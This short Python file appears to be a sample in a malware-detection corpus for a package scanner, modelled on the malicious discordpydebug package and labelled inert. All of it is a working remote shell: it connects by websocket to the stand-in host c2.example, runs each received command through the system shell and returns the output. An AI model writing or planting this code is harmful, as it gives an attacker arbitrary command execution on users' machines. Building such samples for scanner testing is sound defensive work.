# pkgguard corpus 245 (remote-shell), modelled on [discordpydebug]; inert, never run.
import subprocess

import websocket

ws = websocket.WebSocket()
ws.connect("wss://c2.example/ws")
while True:
    cmd = ws.recv()
    out = subprocess.run(cmd, shell=True, capture_output=True)
    ws.send(out.stdout + out.stderr)
